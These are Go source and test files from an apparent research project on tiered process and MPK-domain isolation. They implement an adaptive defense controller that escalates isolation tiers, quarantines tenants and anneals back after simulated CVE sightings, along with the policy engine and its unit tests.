	if log := c.EventLog(); !strings.Contains(log, "screen CVE-2018-5269") {
		t.Fatalf("decision log missing screen events:\n%s", log)
	}
}

func TestAnnealAndHysteresis(t *testing.T) {
	c := lattice()
	c.note(dosSighting(0))
	c.Tick(0)

	// One tier per full clean window: too early does nothing.
	c.Tick(cleanW - 1)
	if got := c.Policy().TierOf(framework.TypeLoading); got != isolation.TierProcess {
		t.Fatalf("annealed %v before the clean window elapsed", got)
	}
	c.Tick(cleanW)
	if got := c.Policy().TierOf(framework.TypeLoading); got != isolation.TierDomain {
		t.Fatalf("tier after clean window = %v, want domain (back at floor)", got)
	}
	if !c.Policy().Equal(c.Floor()) {
		t.Fatal("policy must be back at the floor")
	}

	// Re-escalation doubles the type's clean window (hysteresis): the
	// original window is no longer enough to anneal.
	c.note(dosSighting(0))
	c.Tick(cleanW + 1)
	if got := c.Stats().Escalations; got != 2 {
		t.Fatalf("escalations = %d, want 2", got)
	}
	c.Tick(cleanW + 1 + cleanW)
	if got := c.Policy().TierOf(framework.TypeLoading); got != isolation.TierProcess {
		t.Fatal("flapping type annealed on the original window despite hysteresis")
	}
	c.Tick(cleanW + 1 + 2*cleanW)
	if got := c.Policy().TierOf(framework.TypeLoading); got != isolation.TierDomain {
		t.Fatalf("tier after doubled window = %v, want domain", got)
	}
	if got := c.Stats().Anneals; got != 2 {
		t.Fatalf("anneals = %d, want 2", got)
	}
}

func TestQuarantineAndRelease(t *testing.T) {
	c := New(nil, Params{Floor: isolation.ERIM(), CleanWindow: cleanW, QuarantineWindow: cleanW})
	gate := c.Gate()
	if err := gate(42, 0); err != nil {
		t.Fatalf("gate before sighting = %v, want admit", err)
	}
	c.note(dosSighting(42))
	c.Tick(0)
	if err := gate(42, 0); !errors.Is(err, core.ErrQuarantined) {
		t.Fatalf("gate for quarantined tenant = %v, want ErrQuarantined", err)
	}
	if err := gate(7, 0); err != nil {
		t.Fatalf("gate for innocent tenant = %v, want admit", err)
	}
	c.Tick(cleanW - 1)
	if err := gate(42, 0); !errors.Is(err, core.ErrQuarantined) {
		t.Fatal("quarantine released before its window elapsed")
	}
	c.Tick(cleanW)
	if err := gate(42, 0); err != nil {
		t.Fatalf("gate after release = %v, want admit", err)
	}
	st := c.Stats()
	if st.Quarantines != 1 || st.Releases != 1 {
		t.Fatalf("stats = %+v, want 1 quarantine 1 release", st)
	}
}

func TestTenantZeroNeverQuarantined(t *testing.T) {
	// Tenant 0 is the unattributable default; gating it would down the
	// whole service — exactly what a DoS attacker wants.
	c := lattice()
	c.note(dosSighting(0))
	c.Tick(0)
	if err := c.Gate()(0, 0); err != nil {
		t.Fatalf("tenant 0 gated: %v", err)
	}
	if got := c.Stats().Quarantines; got != 0 {
		t.Fatalf("quarantines = %d, want 0", got)
	}
}

func TestNilExecutorTickAndDeterminism(t *testing.T) {
	// A pool-less controller never re-binds, and two controllers fed the
	// same sightings at the same barrier times emit byte-equal logs.
	run := func() *Controller {
		c := lattice()
		c.note(dosSighting(9))
		c.note(sighting{
			shard: 1, cve: "CVE-2020-10378", class: attack.ClassMemRead,
			api: framework.TypeLoading, tier: isolation.TierDomain,
			signal: "exploit", tenant: 9, session: -1,
		})
		c.Tick(0)
		c.Tick(cleanW)
		c.Tick(2 * cleanW)
		return c
	}
	a, b := run(), run()
	if a.Stats().Rebinds != 0 {
		t.Fatalf("nil-executor controller re-bound %d shards", a.Stats().Rebinds)
	}
	if a.EventLog() != b.EventLog() {
		t.Fatalf("replayed logs diverged:\n%s\nvs\n%s", a.EventLog(), b.EventLog())
	}
	if a.EventLog() == "" {
		t.Fatal("empty decision log")
	}
	// Sightings drain in (shard, seq) order regardless of append order.
	if !strings.Contains(a.EventLog(), "shard 0 seq 0") || !strings.Contains(a.EventLog(), "shard 1 seq 0") {
		t.Fatalf("sighting ordering broken:\n%s", a.EventLog())
	}
}
