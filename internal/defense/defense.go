// Package defense is the adaptive isolation control loop: detect →
// contain → escalate → recover. A deterministic, replayable Controller
// watches per-partition attack signals — exploit attempts (blocked or
// not, classified per attack.VulnClass.BlockedBy), domain protection-key
// faults (internal/mem), seccomp violations, crash signatures, and the
// DoS resource watchdog (core.Config.OnAnomaly) that catches the one
// attack shape the domain tier cannot contain — and reacts at reconcile
// barriers on the virtual clock:
//
//   - escalate the offending API type's isolation tier (host → domain →
//     process) by mutating the current isolation.Policy and re-binding
//     every shard through the executor's drain→respawn→migrate machinery
//     (core.Executor.RebindShard over a core.DynamicShards factory);
//   - quarantine the offending tenant at admission (core.AdmissionGate
//     returning core.ErrQuarantined);
//   - arm a per-vulnerability-class signature blocklist so repeat attacks
//     of a sighted class are rejected at the front door (Screen,
//     core.ErrAttackBlocked) without reaching a partition;
//   - anneal escalated types back toward the configured floor after a
//     clean window, with hysteresis (the clean window doubles on each
//     re-escalation) so a flapping attacker cannot oscillate the policy.
//
// Every decision lands in a byte-replayable Event log following the
// sched.Event convention: sightings are buffered between barriers and
// drained in (shard, sequence) order at Tick, so the log is a pure
// function of the per-shard signal streams regardless of goroutine
// interleaving. A nil controller costs nothing: with no sensors armed,
// no gate installed, and a static factory configuration, the serving
// path is bit-identical to the static presets (TestDefenseZeroCost).
package defense

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/vclock"
)

// Event is one defense decision, in the replayable log convention shared
// with sched.Event and the executor's failover log.
type Event struct {
	// Tick is the reconcile round the decision was made in.
	Tick int
	// At is the virtual time handed to Tick (the serving-wave barrier).
	At vclock.Duration
	// Kind is "sighting", "blocklist", "screen", "escalate", "anneal",
	// "quarantine", "release", "rebind", or "rebind-failed".
	Kind string
	// Detail carries the subject (CVE, API type, tenant, tiers).
	Detail string
}

// String renders the event as one log line.
func (e Event) String() string {
	return fmt.Sprintf("tick %d @%v %s %s", e.Tick, e.At, e.Kind, e.Detail)
}

// Params tunes the control loop. The zero value gets workable defaults
// from New.
type Params struct {
	// Floor is the steady-state policy the controller starts at and
	// anneals back to — the cheap end of the frontier the deployment pays
	// when nobody is attacking. Nil defaults to isolation.ERIM().
	Floor *isolation.Policy
	// CleanWindow is how much sighting-free virtual time an escalated API
	// type must accumulate before one anneal step down. Defaults to 2ms.
	CleanWindow vclock.Duration
	// HysteresisFactor multiplies a type's clean window on each
	// re-escalation after its first, so an attacker alternating attack
	// and silence pays an exponentially growing stay at the strong tier
	// instead of oscillating the policy. Minimum (and default) 2.
	HysteresisFactor int
	// QuarantineWindow is how much virtual time a quarantined tenant
	// stays gated before release. Defaults to CleanWindow.
	QuarantineWindow vclock.Duration
}

// sighting is one buffered attack signal, recorded by a sensor between
// barriers and processed at the next Tick.
type sighting struct {
	shard, seq      int
	cve             string
	class           attack.VulnClass
	api             framework.APIType
	tier            isolation.Tier
	blocked         bool
	signal          string
	tenant, session int
}

// screenHit is one buffered front-door rejection.
type screenHit struct {
	cve   string
	class attack.VulnClass
}

// typeState is the per-API-type escalation lattice state.
type typeState struct {
	window      vclock.Duration
	lastSight   vclock.Duration
	escalations int
}

// quarState is one quarantined tenant's record.
type quarState struct {
	since vclock.Duration
	tick  int
}

// Stats summarizes the controller's activity for reports.
type Stats struct {
	Sightings int
	// WatchdogTrips counts the subset of sightings delivered by the DoS
	// resource watchdog (anomaly-hook signals) rather than the exploit
	// sensor.
	WatchdogTrips int
	ScreenHits    int
	Escalations   int
	Anneals       int
	Quarantines   int
	Releases      int
	Rebinds       int
}

// Controller is the adaptive defense control loop. Sensors append
// sightings concurrently (one sequence per shard); all decisions happen
// at Tick, called from serving-wave barriers with no admissions racing.
type Controller struct {
	ex *core.Executor
	p  Params

	mu        sync.Mutex
	tick      int
	cur       *isolation.Policy
	dirty     bool
	events    []Event
	pending   []sighting
	seq       map[int]int
	screens   []screenHit
	blocklist map[attack.VulnClass]bool
	types     map[framework.APIType]*typeState
	quar      map[int]*quarState
	stats     Stats
}

// New builds a controller over an executor (nil is allowed for unit
// tests that drive the lattice without a pool; Tick then re-binds
// nothing). The current policy starts at the floor under the name
// "adaptive".
func New(ex *core.Executor, p Params) *Controller {
	if p.Floor == nil {
		p.Floor = isolation.ERIM()
	}
	if p.CleanWindow <= 0 {
		p.CleanWindow = vclock.Duration(2 * time.Millisecond)
	}
	if p.HysteresisFactor < 2 {
		p.HysteresisFactor = 2
	}
	if p.QuarantineWindow <= 0 {
		p.QuarantineWindow = p.CleanWindow
	}
	cur := p.Floor.Clone()
	cur.Name = "adaptive"
	return &Controller{
		ex: ex, p: p, cur: cur,
		seq:       make(map[int]int),
		blocklist: make(map[attack.VulnClass]bool),
		types:     make(map[framework.APIType]*typeState),
		quar:      make(map[int]*quarState),
	}
}

// Policy returns a copy of the current adaptive policy — the value a
// core.DynamicShards configuration closure should build shards from, so
// a re-bound shard comes up at the escalated (or annealed) tiers.
func (c *Controller) Policy() *isolation.Policy {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.cur.Clone()
}

// Floor returns the configured steady-state policy.
func (c *Controller) Floor() *isolation.Policy { return c.p.Floor.Clone() }

// Arm installs the controller's sensors on one shard: the exploit sensor
// wrapping inner (the attack layer's payload handler — nil falls back to
// crash-the-hosting-process, the runtime default), and the DoS resource
// watchdog hook. Arm every initial shard after construction and arm
// replacements from the executor's OnReplace hook, so shards re-bound by
// the controller itself come back instrumented.
func (c *Controller) Arm(sh *core.Shard, inner framework.ExploitFunc) {
	rt := sh.Rt
	if rt == nil {
		return
	}
	rt.OnExploit = c.sensor(sh.ID, rt, inner)
	rt.Config.OnAnomaly = c.anomaly(sh.ID, rt)
}

// sensor wraps the exploit path: the payload executes with exactly the
// privileges the boundary grants it (the controller never blocks what
// the tier does not), then the outcome is classified into a signal —
// protection-key fault, seccomp denial, host or agent crash, or a plain
// exploit report — and buffered as a sighting for the next Tick.
func (c *Controller) sensor(shard int, rt *core.Runtime, inner framework.ExploitFunc) framework.ExploitFunc {
	return func(ctx *framework.Ctx, cve string, payload []byte) error {
		var err error
		if inner != nil {
			err = inner(ctx, cve, payload)
		} else {
			rt.K.Crash(ctx.P, fmt.Sprintf("%s exploited", cve))
			err = fmt.Errorf("%w: %s (agent crashed)", framework.ErrExploited, cve)
		}
		meta, known := attack.EvalCVEByID(cve)
		if !known {
			return err
		}
		tier := rt.Config.Isolation.TierOf(meta.APIType)
		signal := "exploit"
		if _, ok := mem.IsFault(err); ok {
			signal = "key-fault"
		} else if errors.Is(err, kernel.ErrSyscallDenied) {
			signal = "seccomp"
		} else if !rt.Host.Alive() {
			signal = "host-crash"
		} else if ctx.P != nil && !ctx.P.Alive() {
			signal = "agent-crash"
		}
		session := rt.SessionScope()
		c.note(sighting{
			shard: shard, cve: cve, class: meta.Class, api: meta.APIType,
			tier: tier, blocked: meta.Class.BlockedBy(tier), signal: signal,
			tenant: c.tenantOf(session), session: session,
		})
		return err
	}
}

// anomaly adapts the core DoS resource watchdog into a sighting: a
// domain- or host-tier invocation that killed the host (or blew its
// virtual-time budget) is a DoS-class signal even when no exploit
// handler ever fired — the channel that catches the imshow DoS the
// domain tier cannot contain.
func (c *Controller) anomaly(shard int, rt *core.Runtime) func(t framework.APIType, api, kind, detail string) {
	return func(t framework.APIType, api, kind, detail string) {
		session := rt.SessionScope()
		c.note(sighting{
			shard: shard, cve: api, class: attack.ClassDoS, api: t,
			tier: rt.Config.Isolation.TierOf(t), blocked: false,
			signal: "watchdog:" + kind,
			tenant: c.tenantOf(session), session: session,
		})
	}
}

// tenantOf resolves a session to its tenant (0 when no executor or no
// session scope).
func (c *Controller) tenantOf(session int) int {
	if c.ex == nil || session < 0 {
		return 0
	}
	return c.ex.TenantOf(session)
}

// note buffers one sighting under the shard's next sequence number.
func (c *Controller) note(s sighting) {
	c.mu.Lock()
	defer c.mu.Unlock()
	s.seq = c.seq[s.shard]
	c.seq[s.shard]++
	c.pending = append(c.pending, s)
}

// Screen is the front-door signature check: a request known to carry the
// exploit for cve is rejected with core.ErrAttackBlocked once the CVE's
// vulnerability class is on the blocklist (armed at the Tick after the
// class's first sighting). Unknown ids pass — the screen only ever
// matches signatures the controller has actually seen the class of.
func (c *Controller) Screen(cve string) error {
	meta, known := attack.EvalCVEByID(cve)
	if !known {
		return nil
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.blocklist[meta.Class] {
		return nil
	}
	c.screens = append(c.screens, screenHit{cve: cve, class: meta.Class})
	c.stats.ScreenHits++
	return fmt.Errorf("defense: %s matches sighted class %q: %w", cve, meta.Class, core.ErrAttackBlocked)
}

// Gate returns the admission gate enforcing quarantine: requests from a
// quarantined tenant are refused with core.ErrQuarantined. Install it
// with Executor.SetAdmissionGate. The quarantine set only changes at
// Tick, so admission outcomes between barriers are deterministic.
func (c *Controller) Gate() core.AdmissionGate {
	return func(tenant, session int) error {
		c.mu.Lock()
		defer c.mu.Unlock()
		if q, ok := c.quar[tenant]; ok {
			return fmt.Errorf("defense: tenant %d quarantined at tick %d: %w", tenant, q.tick, core.ErrQuarantined)
		}
		return nil
	}
}

// typeStateLocked returns (creating if needed) the lattice state for an
// API type. Caller holds c.mu.
func (c *Controller) typeStateLocked(t framework.APIType) *typeState {
	ts := c.types[t]
	if ts == nil {
		ts = &typeState{window: c.p.CleanWindow}
		c.types[t] = ts
	}
	return ts
}

// record appends one event. Caller holds c.mu.
func (c *Controller) record(tick int, at vclock.Duration, kind, detail string) {
	c.events = append(c.events, Event{Tick: tick, At: at, Kind: kind, Detail: detail})
}

// Tick reconciles at a serving-wave barrier stamped `now` on the run's
// virtual timeline: buffered sightings drain in (shard, sequence) order;
// each arms the class blocklist, quarantines its tenant, and escalates
// its API type to the smallest tier that contains its class; then every
// escalated type with a full clean window anneals one tier toward the
// floor, expired quarantines release, and — if the policy changed — every
// shard is re-bound through the failover machinery so the new tiers take
// effect. Call only from barriers with no admissions in flight.
func (c *Controller) Tick(now vclock.Duration) {
	c.mu.Lock()
	c.tick++
	tick := c.tick

	sights := c.pending
	c.pending = nil
	sort.Slice(sights, func(i, j int) bool {
		if sights[i].shard != sights[j].shard {
			return sights[i].shard < sights[j].shard
		}
		return sights[i].seq < sights[j].seq
	})
	screens := c.screens
	c.screens = nil

	for _, h := range screens {
		c.record(tick, now, "screen", fmt.Sprintf("%s rejected at the front door (class %q)", h.cve, h.class))
	}

	for _, s := range sights {
		c.stats.Sightings++
		if strings.HasPrefix(s.signal, "watchdog:") {
			c.stats.WatchdogTrips++
		}
		c.record(tick, now, "sighting", fmt.Sprintf(
			"shard %d seq %d %s class %q api %s tier %s signal %s blocked %v tenant %d",
			s.shard, s.seq, s.cve, s.class, s.api.Long(), s.tier, s.signal, s.blocked, s.tenant))

		// First sighting of a class arms the front-door blocklist: repeat
		// attacks of the class never reach a partition again.
		if !c.blocklist[s.class] {
			c.blocklist[s.class] = true
			c.record(tick, now, "blocklist", fmt.Sprintf("class %q armed after %s", s.class, s.cve))
		}

		// Quarantine the offender. Tenant 0 is the unattributable default
		// (closed-loop and tenantless traffic lands there), so it is never
		// quarantined — gating it would take the whole service down, which
		// is exactly what a DoS attacker wants.
		if s.tenant != 0 {
			if _, ok := c.quar[s.tenant]; !ok {
				c.quar[s.tenant] = &quarState{since: now, tick: tick}
				c.stats.Quarantines++
				c.record(tick, now, "quarantine", fmt.Sprintf("tenant %d after %s (class %q)", s.tenant, s.cve, s.class))
			}
		}

		// Escalation lattice: jump the offending type to the smallest tier
		// that contains the sighted class. Any sighting on the type —
		// blocked or not — resets its clean window.
		ts := c.typeStateLocked(s.api)
		ts.lastSight = now
		if need, cur := s.class.RequiredTier(), c.cur.TierOf(s.api); need > cur {
			c.cur = c.cur.WithTier(s.api, need)
			c.dirty = true
			ts.escalations++
			if ts.escalations > 1 {
				// Hysteresis: a type that needed escalating again pays a
				// doubled clean window before it anneals back down.
				ts.window *= vclock.Duration(c.p.HysteresisFactor)
			}
			c.stats.Escalations++
			c.record(tick, now, "escalate", fmt.Sprintf("%s: %s -> %s (%s, class %q, signal %s)",
				s.api.Long(), cur, need, s.cve, s.class, s.signal))
		}
	}

	// Anneal: each escalated type with a full clean window steps one tier
	// toward the floor. One step per window — a type two tiers up takes
	// two clean windows to come all the way home.
	for _, t := range framework.ConcreteTypes() {
		cur, floor := c.cur.TierOf(t), c.p.Floor.TierOf(t)
		if cur <= floor {
			continue
		}
		ts := c.typeStateLocked(t)
		if now-ts.lastSight < ts.window {
			continue
		}
		next := cur - 1
		if next < floor {
			next = floor
		}
		c.cur = c.cur.WithTier(t, next)
		c.dirty = true
		ts.lastSight = now
		c.stats.Anneals++
		c.record(tick, now, "anneal", fmt.Sprintf("%s: %s -> %s after %v clean", t.Long(), cur, next, ts.window))
	}

	// Release expired quarantines, ascending tenant order.
	ids := make([]int, 0, len(c.quar))
	for id := range c.quar {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	for _, id := range ids {
		q := c.quar[id]
		if now-q.since >= c.p.QuarantineWindow {
			delete(c.quar, id)
			c.stats.Releases++
			c.record(tick, now, "release", fmt.Sprintf("tenant %d after %v quarantined", id, now-q.since))
		}
	}

	dirty := c.dirty
	c.dirty = false
	var desc string
	if dirty {
		desc = policyDesc(c.cur)
	}
	n := 0
	if c.ex != nil {
		n = c.ex.Shards()
	}
	c.mu.Unlock()

	if !dirty || n == 0 {
		return
	}
	// Re-bind every shard onto the changed policy: drain → respawn via
	// the dynamic factory (which re-reads Policy()) → migrate sessions.
	// Ascending slot order, so the failover log interleaving is fixed.
	for id := 0; id < n; id++ {
		err := c.ex.RebindShard(id, "policy "+desc)
		c.mu.Lock()
		if err != nil {
			c.record(tick, now, "rebind-failed", fmt.Sprintf("shard %d: %v", id, err))
		} else {
			c.stats.Rebinds++
			c.record(tick, now, "rebind", fmt.Sprintf("shard %d -> %s", id, desc))
		}
		c.mu.Unlock()
	}
}

// policyDesc renders a policy's tier assignment in ConcreteTypes order.
func policyDesc(p *isolation.Policy) string {
	parts := make([]string, 0, 4)
	for _, t := range framework.ConcreteTypes() {
		parts = append(parts, fmt.Sprintf("%s=%s", t.Long(), p.TierOf(t)))
	}
	return strings.Join(parts, ",")
}

// Events returns a copy of the decision log.
func (c *Controller) Events() []Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]Event, len(c.events))
	copy(out, c.events)
	return out
}

// EventLog renders the decision log one event per line — the byte string
// replay runs compare.
func (c *Controller) EventLog() string {
	var b strings.Builder
	for _, e := range c.Events() {
		b.WriteString(e.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// Stats returns a copy of the activity counters.
func (c *Controller) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stats
}
