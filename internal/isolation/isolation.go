// Package isolation is the per-API-type policy engine for the tiered
// isolation mechanisms: it decides, for every framework API type, which
// Boundary tier hosts the partition that homes it. The tiers span the
// compartmentalization design space the related work maps — FreePart's
// process+IPC partitions at one end (strongest containment, highest cost),
// ERIM-style MPK protection-key domains in the middle (~100-cycle switch,
// no IPC, no per-call copy; USENIX Security '19), and plain in-host
// execution at the other end (zero cost, blocks nothing).
package isolation

import (
	"sort"

	"freepart.dev/freepart/internal/framework"
)

// Tier is one isolation mechanism, ordered by containment strength:
// comparing tiers with < / > compares how much a compromised partition is
// contained, so "strongest tier among a partition's homed types" is a max.
type Tier uint8

// Isolation tiers, weakest first.
const (
	// TierHost runs the partition's APIs in the host process itself — the
	// existing Direct/degraded in-host path. No switch cost, no copies, no
	// containment: an exploited API owns the service.
	TierHost Tier = iota
	// TierDomain runs the partition as an ERIM-style MPK domain: same
	// address space as the host, partition state tagged with a protection
	// key, a WRPKRU-style PKRU rewrite charged on every entry and exit.
	// Cross-domain reads and writes fault deterministically, but the domain
	// shares the host's process fate: a crash (DoS) or in-process
	// privilege escalation (no per-domain seccomp) is not contained.
	TierDomain
	// TierProcess is the paper's mechanism: a separate kernel process with
	// its own address space and seccomp filter, reached over per-call IPC.
	// Strongest containment, and the only tier that survives a partition
	// crash (the supervisor restarts the dead process).
	TierProcess
)

// String names the tier as the policy syntax does.
func (t Tier) String() string {
	switch t {
	case TierHost:
		return "host"
	case TierDomain:
		return "domain"
	case TierProcess:
		return "process"
	default:
		return "unknown"
	}
}

// Policy maps framework API types to isolation tiers. The zero value (and
// a nil *Policy) behaves as the paper's all-process configuration, so a
// runtime built without a policy is bit-identical to the pre-policy path.
type Policy struct {
	// Name identifies the policy in reports and flags (e.g. "tiered").
	Name string
	// Tiers assigns a tier per API type; absent types default to
	// TierProcess (the strongest mechanism is the safe fallback).
	Tiers map[framework.APIType]Tier
}

// TierOf returns the tier hosting the partition that homes type t.
func (p *Policy) TierOf(t framework.APIType) Tier {
	if p == nil {
		return TierProcess
	}
	if tier, ok := p.Tiers[t]; ok {
		return tier
	}
	return TierProcess
}

// HasTier reports whether any API type is assigned the tier (absent types
// count as TierProcess).
func (p *Policy) HasTier(tier Tier) bool {
	if p == nil {
		return tier == TierProcess
	}
	for _, t := range framework.ConcreteTypes() {
		if p.TierOf(t) == tier {
			return true
		}
	}
	return false
}

// Clone returns an independent deep copy of the policy. A nil policy
// clones to nil (the all-process default needs no storage to stay the
// all-process default).
func (p *Policy) Clone() *Policy {
	if p == nil {
		return nil
	}
	tiers := make(map[framework.APIType]Tier, len(p.Tiers))
	for t, tier := range p.Tiers {
		tiers[t] = tier
	}
	return &Policy{Name: p.Name, Tiers: tiers}
}

// WithTier returns a copy of the policy with API type t reassigned to
// tier. The receiver is never mutated, so a caller holding the original
// (the annealing floor, a replay baseline) keeps exactly what it had.
// On a nil policy the copy starts from the all-process default over the
// concrete types, so TierOf stays consistent for every other type.
func (p *Policy) WithTier(t framework.APIType, tier Tier) *Policy {
	var out *Policy
	if p == nil {
		out = uniform("", TierProcess)
	} else {
		out = p.Clone()
		if out.Tiers == nil {
			out.Tiers = make(map[framework.APIType]Tier)
		}
	}
	out.Tiers[t] = tier
	return out
}

// Equal reports whether two policies assign the same tier to every
// concrete API type. Names are ignored: equality is about effective
// isolation, and absent assignments compare as TierProcess exactly as
// TierOf resolves them — so an escalate-then-anneal round trip that
// restores every assignment compares equal to the original policy.
func (p *Policy) Equal(q *Policy) bool {
	for _, t := range framework.ConcreteTypes() {
		if p.TierOf(t) != q.TierOf(t) {
			return false
		}
	}
	return true
}

// uniform builds a policy assigning one tier to every concrete API type.
func uniform(name string, tier Tier) *Policy {
	tiers := make(map[framework.APIType]Tier)
	for _, t := range framework.ConcreteTypes() {
		tiers[t] = tier
	}
	return &Policy{Name: name, Tiers: tiers}
}

// Paper is the reproduction's default: every partition a kernel process
// behind per-call IPC, exactly the pre-policy path (byte-equal replay).
func Paper() *Policy { return uniform("paper", TierProcess) }

// ERIM runs every partition as an MPK protection-key domain: no IPC, no
// per-call copy, a WRPKRU-style switch per call — and no containment of
// DoS or in-process escalation.
func ERIM() *Policy { return uniform("erim", TierDomain) }

// Tiered is the mixed point on the frontier: the risky input-facing types
// (loading and processing host 17 of the 18 evaluation CVEs) keep full
// process isolation, while visualizing and storing — one historical CVE
// between them — run as cheap MPK domains.
func Tiered() *Policy {
	return &Policy{Name: "tiered", Tiers: map[framework.APIType]Tier{
		framework.TypeLoading:     TierProcess,
		framework.TypeProcessing:  TierProcess,
		framework.TypeVisualizing: TierDomain,
		framework.TypeStoring:     TierDomain,
	}}
}

// None runs everything in the host process: the unprotected baseline the
// overhead column is measured against.
func None() *Policy { return uniform("none", TierHost) }

// Presets returns the built-in policies in frontier order (strongest
// first).
func Presets() []*Policy {
	return []*Policy{Paper(), Tiered(), ERIM(), None()}
}

// ByName resolves a preset by its flag name.
func ByName(name string) (*Policy, bool) {
	for _, p := range Presets() {
		if p.Name == name {
			return p, true
		}
	}
	return nil, false
}

// Names lists the preset names, sorted (for flag validation messages).
func Names() []string {
	ps := Presets()
	out := make([]string, 0, len(ps))
	for _, p := range ps {
		out = append(out, p.Name)
	}
	sort.Strings(out)
	return out
}
