package isolation

import (
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/framework"
)

func TestTierOrdering(t *testing.T) {
	// boundaryFor picks the strongest tier among a partition's types, so
	// the ordering is load-bearing: host < domain < process.
	if !(TierHost < TierDomain && TierDomain < TierProcess) {
		t.Fatal("tier ordering broken")
	}
}

func TestTierOfDefaultsToProcess(t *testing.T) {
	var nilPol *Policy
	if got := nilPol.TierOf(framework.TypeLoading); got != TierProcess {
		t.Fatalf("nil policy TierOf = %v, want process", got)
	}
	p := &Policy{Name: "partial", Tiers: map[framework.APIType]Tier{framework.TypeStoring: TierHost}}
	if got := p.TierOf(framework.TypeLoading); got != TierProcess {
		t.Fatalf("absent type TierOf = %v, want process", got)
	}
	if got := p.TierOf(framework.TypeStoring); got != TierHost {
		t.Fatalf("mapped type TierOf = %v, want host", got)
	}
}

func TestPresets(t *testing.T) {
	types := framework.ConcreteTypes()
	for _, ty := range types {
		if got := Paper().TierOf(ty); got != TierProcess {
			t.Errorf("paper %s = %v", ty, got)
		}
		if got := ERIM().TierOf(ty); got != TierDomain {
			t.Errorf("erim %s = %v", ty, got)
		}
		if got := None().TierOf(ty); got != TierHost {
			t.Errorf("none %s = %v", ty, got)
		}
	}
	tiered := Tiered()
	want := map[framework.APIType]Tier{
		framework.TypeLoading:     TierProcess,
		framework.TypeProcessing:  TierProcess,
		framework.TypeVisualizing: TierDomain,
		framework.TypeStoring:     TierDomain,
	}
	for ty, w := range want {
		if got := tiered.TierOf(ty); got != w {
			t.Errorf("tiered %s = %v, want %v", ty, got, w)
		}
	}
}

func TestHasTier(t *testing.T) {
	if !Tiered().HasTier(TierDomain) || !Tiered().HasTier(TierProcess) {
		t.Fatal("tiered must report both its tiers")
	}
	if Paper().HasTier(TierDomain) {
		t.Fatal("paper has no domain tier")
	}
	var nilPol *Policy
	if !nilPol.HasTier(TierProcess) || nilPol.HasTier(TierHost) {
		t.Fatal("nil policy is all-process")
	}
}

func TestHasTierEmptyAndPartial(t *testing.T) {
	// An empty Tiers map resolves every type to process, so process is the
	// only tier the policy "has".
	empty := &Policy{Name: "empty"}
	if !empty.HasTier(TierProcess) {
		t.Fatal("empty policy must report the process tier")
	}
	if empty.HasTier(TierDomain) || empty.HasTier(TierHost) {
		t.Fatal("empty policy has no explicit tiers")
	}
	partial := &Policy{Name: "partial", Tiers: map[framework.APIType]Tier{framework.TypeVisualizing: TierDomain}}
	if !partial.HasTier(TierDomain) {
		t.Fatal("partial policy must report its explicit domain tier")
	}
	if !partial.HasTier(TierProcess) {
		t.Fatal("partial policy must report process for its unmapped types")
	}
	if partial.HasTier(TierHost) {
		t.Fatal("partial policy never assigns host")
	}
}

func TestWithTierEscalateAnnealRoundTrip(t *testing.T) {
	// The adaptive defense loop escalates with WithTier and anneals back;
	// the round trip must restore Equal-ity with the floor without ever
	// mutating it.
	floor := ERIM()
	esc := floor.WithTier(framework.TypeLoading, TierProcess)
	if floor.TierOf(framework.TypeLoading) != TierDomain {
		t.Fatal("WithTier mutated its receiver")
	}
	if esc.Equal(floor) {
		t.Fatal("escalated policy must not compare equal to the floor")
	}
	if got := esc.TierOf(framework.TypeLoading); got != TierProcess {
		t.Fatalf("escalated tier = %v, want process", got)
	}
	back := esc.WithTier(framework.TypeLoading, TierDomain)
	if !back.Equal(floor) {
		t.Fatal("escalate-then-anneal round trip must restore equality")
	}

	// A nil receiver starts the copy from the all-process default so the
	// other types keep resolving consistently.
	var nilPol *Policy
	m := nilPol.WithTier(framework.TypeStoring, TierHost)
	if got := m.TierOf(framework.TypeStoring); got != TierHost {
		t.Fatalf("nil WithTier assigned %v, want host", got)
	}
	if got := m.TierOf(framework.TypeLoading); got != TierProcess {
		t.Fatalf("nil WithTier left %v for unmapped types, want process", got)
	}

	// Equal ignores names and treats absent assignments as process.
	if !(&Policy{Name: "anything"}).Equal(Paper()) {
		t.Fatal("absent assignments must compare as process-tier")
	}
}

func TestByNameAndNames(t *testing.T) {
	for _, name := range Names() {
		p, ok := ByName(name)
		if !ok || p.Name != name {
			t.Fatalf("ByName(%q) = %+v, %v", name, p, ok)
		}
	}
	if _, ok := ByName("bogus"); ok {
		t.Fatal("ByName must reject unknown policies")
	}
	want := []string{"erim", "none", "paper", "tiered"}
	if got := Names(); !reflect.DeepEqual(got, want) {
		t.Fatalf("Names() = %v, want %v (sorted)", got, want)
	}
}
