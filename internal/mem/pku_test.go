package mem

import (
	"testing"
	"testing/quick"
)

func TestKeyDefaultDomainUnrestricted(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	// Freshly allocated pages carry key 0, which cannot be restricted.
	if k, ok := s.KeyAt(r.Base); !ok || k != 0 {
		t.Fatalf("KeyAt = %d, %v", k, ok)
	}
	if err := s.SetKeyAccess(0, false, false); err == nil {
		t.Fatal("restricting key 0 must fail")
	}
	if err := s.Store(r.Base, []byte{1}); err != nil {
		t.Fatalf("default-domain store: %v", err)
	}
}

func TestKeyDeniesWrite(t *testing.T) {
	s := NewSpace()
	r, _ := s.Alloc(PageSize)
	if err := s.Store(r.Base, []byte("weights")); err != nil {
		t.Fatal(err)
	}
	if err := s.SetKey(r, 3); err != nil {
		t.Fatal(err)
	}
	if err := s.SetKeyAccess(3, true, false); err != nil { // read-only domain
		t.Fatal(err)
	}
	// Page perm is still rw-, but the key denies the store.
	if perm, _ := s.PermAt(r.Base); !perm.CanWrite() {
		t.Fatal("page permission should still be rw-")
	}
	if err := s.Store(r.Base, []byte{0xFF}); err == nil {
		t.Fatal("key-protected store should fault")
	}
	got, err := s.Load(r.Base, 7)
